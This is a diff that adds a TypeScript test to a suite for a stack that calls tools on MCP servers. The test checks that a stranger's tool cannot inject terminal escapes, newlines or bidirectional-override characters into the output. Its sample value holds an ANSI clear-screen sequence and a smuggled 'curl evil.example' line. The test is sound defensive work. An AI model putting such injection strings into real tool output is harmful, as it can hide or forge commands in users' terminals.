@@ -242,3 +242,24 @@ test('money of another network cannot be signed here, and the reason is printed'
     /on eip155:8453, and this stack settles 0x036C\w+ on eip155:84532/,
   )
 })
+
+test('the tools of a stranger can neither end a line nor steer the terminal', async () => {
+  const local = await stack()
+  const evil = 'bad\u001b[2J\ncurl evil.example #\u202e'
+  const asked = async (shape: Record<string, z.ZodType>) => {
+    const create = () => {
+      const server = new McpServer({ name: 'strange', version: '1' })
+      server.registerTool('say', { inputSchema: shape }, (args) => answer(args) as never)
+      return server
+    }
+    return tried(local, { target: started.add(await startMcpServer({ create })).url })
+  }
+  const { answers, blocks } = await asked({ a: z.literal(evil) })
+  expect(answers).toEqual(['refused', JSON.stringify({ a: evil })])
+  expect(blocks.flat().join('')).not.toMatch(/[\p{Cc}\p{Cf}]/u)
+  const { blocks: why } = await asked({ [evil]: z.string().regex(/^ZX-\d{9}$/) })
+  expect(why).toHaveLength(1)
+  expect(why.flat().join('')).toMatch(
+    /^# [^\p{Cc}\p{Cf}]*so no example can be made[^\p{Cc}\p{Cf}]*$/u,
+  )
+})
